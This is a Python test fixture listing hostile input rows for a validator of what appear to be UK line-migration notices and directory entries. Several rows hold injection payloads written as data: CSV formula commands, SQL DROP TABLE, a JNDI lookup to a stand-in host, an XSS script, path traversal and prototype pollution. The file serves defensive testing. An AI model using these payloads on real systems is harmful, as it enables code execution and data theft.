from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from tests.hostile.http_fuzz import STREET, TELLTALE

REFUSED, KEPT, CLEAN = "rejected", "accepted_with_warnings", "accepted"


@dataclass(frozen=True)
class HostileRow:
    name: str
    # The fields that differ from a good row. The value `...` leaves a field out.
    changes: dict[str, Any]
    outcome: str
    # The expected issue, or None if no issue is expected.
    field: str | None = None
    code: str | None = None


def refused(name: str, field: str, code: str, changes: dict[str, Any]) -> HostileRow:
    return HostileRow(name, changes, REFUSED, field, code)


def kept(name: str, field: str, code: str, changes: dict[str, Any]) -> HostileRow:
    return HostileRow(name, changes, KEPT, field, code)


def clean(name: str, changes: dict[str, Any]) -> HostileRow:
    return HostileRow(name, changes, CLEAN)


def dated(name: str, code: str, value: Any) -> HostileRow:
    return refused(name, "planned_migration_date", code, {"planned_migration_date": value})


def issued(name: str, code: str, value: Any) -> HostileRow:
    return refused(name, "issued_at", code, {"issued_at": value})


def numbered(name: str, code: str, value: Any) -> HostileRow:
    return refused(name, "cli", code, {"cli": value})


NO_DAY, NOT_A_DAY = "date_from_datetime_parsing", "date_parsing"
LETTER = {"method": "letter", "date": "2026-10-01"}
NOTICE_ROWS = (
    refused("a number for an id", "id", "string_type", {"id": 96077700123}),
    refused("an empty id", "id", "missing", {"id": ""}),
    refused("an id of blanks", "id", "string_too_short", {"id": "   "}),
    refused("no id", "id", "missing", {"id": ...}),
    refused("an id of 121 signs", "id", "string_too_long", {"id": "x" * 121}),
    refused("a list for an id", "id", "string_type", {"id": ["number one"]}),
    refused("the code of another provider", "provider_id", "not_your_provider", {"provider_id": "HBRT"}),
    refused("a provider's code in lower case", "provider_id", "string_pattern_mismatch", {"provider_id": "ravn"}),
    refused("a provider's code with a NUL", "provider_id", "string_pattern_mismatch", {"provider_id": "RAV\x00"}),
    refused("a scope that does not exist", "scope", "enum", {"scope": "everywhere"}),
    refused("a number for a scope", "scope", "enum", {"scope": 1}),
    refused("a status that does not exist", "status", "enum", {"status": "exploded"}),
    refused("a status in capitals", "status", "enum", {"status": "WITHDRAWN"}),
    refused("an object for a status", "status", "enum", {"status": {"is": "foreseen"}}),
    dated("30 February", NO_DAY, "2027-02-30"),
    dated("29 February of a common year", NO_DAY, "2027-02-29"),
    dated("month 13", NO_DAY, "2027-13-01"),
    dated("the year zero", NOT_A_DAY, "0000-01-01"),
    dated("a date in 1900", "implausible_date", "1900-01-01"),
    dated("a date in 2999", "implausible_date", "2999-12-31"),
    dated("the first day of the calendar", "implausible_date", "0001-01-01"),
    dated("a date as seconds since 1970", NOT_A_DAY, 1796256000),
    dated("a date as a spreadsheet counts", NOT_A_DAY, 46359.5),
    dated("a date in British order", NOT_A_DAY, "03/12/2026"),
    dated("a date with a time", NOT_A_DAY, "2026-12-03T00:00:00Z"),
    dated("a date in Arabic digits", NO_DAY, "\u0662\u0660\u0662\u0666-\u0661\u0662-\u0660\u0663"),
    dated("true for a date", NOT_A_DAY, True),
    dated("a date after a blank", NOT_A_DAY, " 2026-12-03"),
    dated("a year of five digits", NOT_A_DAY, "12026-12-03"),
    dated("a list for a date", NOT_A_DAY, ["2026-12-03"]),
    refused("a restriction on 31 April", "restriction_start_date", NO_DAY, {"restriction_start_date": "2027-04-31"}),
    refused(
        "a restriction on the last day of the calendar",
        "restriction_start_date",
        "implausible_date",
        {"restriction_start_date": "9999-12-31"},
    ),
    issued("a time without its offset", "timezone_aware", "2026-11-20T09:00:00"),
    issued("a date for a time", "datetime_parsing", "2026-11-20"),
    issued("a time as seconds since 1970", "datetime_parsing", 1795080000),
    issued("25 o'clock", "datetime_from_date_parsing", "2026-11-20T25:00:00Z"),
    issued("an offset of 30 hours", "datetime_from_date_parsing", "2026-11-20T09:00:00+30:00"),
    issued("a time two days ahead", "in_the_future", "2026-11-25T10:00:00Z"),
    issued("a time in 2999", "in_the_future", "2999-01-01T00:00:00Z"),
    issued("a time in 1900", "implausible_date", "1900-01-01T00:00:00Z"),
    issued("the first moment of the calendar", "datetime_out_of_range", "0001-01-01T00:00:00+14:00"),
    issued("the last moment of the calendar", "datetime_out_of_range", "9999-12-31T23:59:59-12:00"),
    refused("a reference of 5,000 signs", "supersedes", "string_too_long", {"supersedes": "s" * 5000}),
    refused("an object for a reference", "provider_reference", "string_type", {"provider_reference": {"$ne": None}}),
    numbered("a number that is no text", "string_type", 441632960777),
    numbered("a number in scientific notation", "scientific_notation", "4.41633E+11"),
    numbered("a number of 81 signs", "string_too_long", "0" * 81),
    numbered("letters for a number", "not_a_number", "see the file"),
    numbered("a number written from right to left", "too_long", "\u202e777069 23610"),
    numbered("a number of another country", "not_a_uk_number", "+33 1 23 45 67 89"),
    numbered("an emergency number", "too_short", "999"),
    numbered("a command for a number", "too_short", "=cmd|' /C calc'!A0"),
    numbered("SQL for a number", "not_a_number", "'; DROP TABLE notices; --"),
    numbered("a template for a number", "too_short", "{{7*7}}${jndi:ldap://x.example}"),
    numbered("a row inside a row", "string_type", {"cli": {"cli": TELLTALE}}),
    clean("a number with a NUL inside", {"cli": "01632\x00960777"}),
    clean("a number in Arabic digits", {"cli": "\u0660\u0661\u0666\u0663\u0662\u0669\u0666\u0660\u0667\u0667\u0667"}),
    clean(
        "a number in full-width digits", {"cli": "\uff10\uff11\uff16\uff13\uff12\uff19\uff16\uff10\uff17\uff17\uff17"}
    ),
    clean("a number with an invisible blank", {"cli": "01632\u200b960777"}),
    clean("a formula around a number", {"cli": '=HYPERLINK("http://x.example","01632 960777")'}),
    clean("itself for what it supersedes", {"id": "ouroboros", "supersedes": "ouroboros"}),
    clean("a script for an address", {"address_lines": [f"<script>alert('{STREET}')</script>"]}),
    clean("an address of NULs", {"address_lines": ["\x00\x00\x00\x00\x00\x00"]}),
    kept("a UPRN with a letter", "uprn", "not_a_uprn", {"uprn": "10001234567X"}),
    kept("a UPRN of 13 digits", "uprn", "too_long", {"uprn": "1000123456789"}),
    kept("a UPRN in scientific notation", "uprn", "scientific_notation", {"uprn": "1.00012E+11"}),
    kept("a UPRN below zero", "uprn", "not_a_uprn", {"uprn": "-100012345678"}),
    kept("a UPRN that is no text", "uprn", "string_type", {"uprn": 100012345678.0}),
    kept("a postcode that is none", "postcode", "not_a_postcode", {"postcode": f"{STREET} 1"}),
    kept("a postcode of 31 signs", "postcode", "string_too_long", {"postcode": "F" * 31}),
    kept("an address that is one text", "address_lines", "tuple_type", {"address_lines": f"12 {STREET} Road"}),
    kept("an address of nine lines", "address_lines", "too_long", {"address_lines": [STREET] * 9}),
    kept("an address line of 201 signs", "address_lines", "string_too_long", {"address_lines": ["T" * 201]}),
    kept("an object for an address line", "address_lines", "string_type", {"address_lines": [{"1": STREET}]}),
    kept("a town of half a megabyte", "post_town", "string_too_long", {"post_town": "B" * 500_000}),
    kept("perhaps for true", "customer_engaged", "bool_parsing", {"customer_engaged": "perhaps"}),
    kept("two for true", "line_used_last_12_months", "bool_parsing", {"line_used_last_12_months": 2}),
    kept(
        "a contact by pigeon",
        "customer_contacts",
        "string_pattern_mismatch",
        {"customer_contacts": [LETTER, {**LETTER, "method": "pigeon"}]},
    ),
    kept("a contact without a date", "customer_contacts", "missing", {"customer_contacts": [{"method": "letter"}]}),
    kept(
        "a contact on 30 February",
        "customer_contacts",
        NO_DAY,
        {"customer_contacts": [{**LETTER, "date": "2026-02-30"}]},
    ),
    kept("51 contacts", "customer_contacts", "too_long", {"customer_contacts": [LETTER] * 51}),
    kept("a kind that does not exist", "migration_kind", "enum", {"migration_kind": "forcible"}),
    kept("a service that does not exist", "target_service", "enum", {"target_service": "pigeon post"}),
    kept("a restriction that does not exist", "restriction_kind", "enum", {"restriction_kind": "cut off"}),
    kept("a customer's name", "customer_name", "never_kept", {"customer_name": f"Margaret {STREET}"}),
    kept("an account number", "account_number", "never_kept", {"account_number": "96077700123"}),
    kept("a reason for need", "reason_for_need", "never_kept", {"reason_for_need": f"{STREET} fell twice"}),
    kept("a field nobody knows", "colour", "unknown_field", {"colour": f"{STREET} mauve"}),
    kept("a field named like a number", "row", "unknown_field", {TELLTALE: "x"}),
    kept("a field named tel and a number", "row", "unknown_field", {"tel01632960777": "x"}),
    kept("a field named like a person", "row", "unknown_field", {f"Mrs {STREET}": "x"}),
    kept("a field with a name of a kilobyte", "row", "unknown_field", {"k" * 1024: "x"}),
    kept("a field without a name", "row", "unknown_field", {"": "x"}),
    kept("a field for another language", "__proto__", "unknown_field", {"__proto__": {"admin": True}}),
    refused("an area of no area", "area_codes", "not_an_area", {"scope": "postcode", "area_codes": [f"{STREET} West"]}),
    refused("2,001 areas", "area_codes", "too_long", {"scope": "postcode", "area_codes": ["FY4 1QZ"] * 2001}),
    refused("areas that are one text", "area_codes", "tuple_type", {"scope": "postcode", "area_codes": "FY4 1QZ"}),
    refused("an area without its codes", "area_codes", "nowhere", {"scope": "postcode"}),
    refused("a line without a place", "cli", "nowhere", {"cli": ...}),
    refused("the mark of a row that is no object", "row", "not_an_object", {"\x00not_an_object": "hidden"}),
)

ENTRY_ROWS = (
    refused("no id", "entry_id", "missing", {"entry_id": ...}),
    refused("a number for an id", "entry_id", "string_type", {"entry_id": 96077700123}),
    refused("an object for an id", "entry_id", "string_type", {"entry_id": {"$ne": None}}),
    refused("an id of blanks", "entry_id", "string_too_short", {"entry_id": " "}),
    refused("an id of 121 signs", "entry_id", "string_too_long", {"entry_id": "x" * 121}),
    clean("a path for an id", {"entry_id": "../../etc/passwd"}),
    clean("a NUL in an id", {"entry_id": "entry\x00hostile"}),
    refused("a time without its offset", "updated_at", "timezone_aware", {"updated_at": "2026-11-20T09:00:00"}),
    refused("a time in 2999", "updated_at", "in_the_future", {"updated_at": "2999-01-01T00:00:00Z"}),
    refused("the first moment", "updated_at", "datetime_out_of_range", {"updated_at": "0001-01-01T00:00:00+14:00"}),
    refused("the last moment", "updated_at", "datetime_out_of_range", {"updated_at": "9999-12-31T23:59:59-12:00"}),
    clean("a time in 1900", {"updated_at": "1900-01-01T00:00:00Z"}),
    kept(
        "a confirmation in year 1",
        "last_confirmed_at",
        "datetime_out_of_range",
        {"last_confirmed_at": "0001-01-01T00:00:00Z"},
    ),
    kept(
        "a confirmation in the year 9999",
        "last_confirmed_at",
        "datetime_out_of_range",
        {"last_confirmed_at": "9999-12-31T23:59:59-12:00"},
    ),
    kept(
        "a test in year 1",
        "last_successful_test_at",
        "datetime_out_of_range",
        {"last_successful_test_at": "0001-01-01T00:00:00+14:00"},
    ),
    kept(
        "a test without its offset",
        "last_successful_test_at",
        "timezone_aware",
        {"last_successful_test_at": "2026-01-01T00:00:00"},
    ),
    kept("a service that is finished", "service_status", "unknown_status", {"service_status": "finished"}),
    kept("a start on 31 June", "service_started_on", NO_DAY, {"service_started_on": "2026-06-31"}),
    kept("an agreement until 1900-02-29", "share_basis_expires_on", NO_DAY, {"share_basis_expires_on": "1900-02-29"}),
    kept("a connection by string", "connection", "enum", {"connection": "two tins and a string"}),
    kept("numbers of 201 signs", "cli", "string_too_long", {"cli": "0" * 201}),
    kept("a number that is no text", "cli", "string_type", {"cli": 1632960777}),
    kept("a number in scientific notation", "cli", "scientific_notation", {"cli": "4.41633E+11"}),
    kept("two hundred nines", "cli", "too_long", {"cli": "9" * 200}),
    clean("a number with a letter O", {"cli": "O1632 960777"}),
    kept("nothing but an id", "cli", "cannot_be_matched", {"cli": ..., "postcode": ..., "address_lines": ...}),
    kept("a postcode without an address", "address_lines", "no_address", {"cli": ..., "address_lines": ...}),
    kept("an object for an address", "address_lines", "tuple_type", {"address_lines": {"0": f"3 {STREET} Road"}}),
    clean("a formula for an address", {"address_lines": ["=2+5+cmd|' /C calc'!A0"]}),
    kept("21 codes", "supported_journey_codes", "too_long", {"supported_journey_codes": ["SJ"] * 21}),
    kept("a code of 61 signs", "communication_needs", "string_too_long", {"communication_needs": ["c" * 61]}),
    kept("an agreement that is a list", "share_basis_id", "string_type", {"share_basis_id": ["agreement 7"]}),
    kept("an NHS number", "nhs_number", "never_kept", {"nhs_number": "943 476 5919"}),
    kept("a date of birth", "date_of_birth", "never_kept", {"date_of_birth": "1941-03-02"}),
    kept("a key-safe code", "key_safe_code", "never_kept", {"key_safe_code": "C4711Y"}),
    kept("a diagnosis", "diagnosis", "never_kept", {"diagnosis": f"{STREET} disease"}),
    kept("a field named like an address", "row", "unknown_field", {f"3 {STREET} Road": "x"}),
)
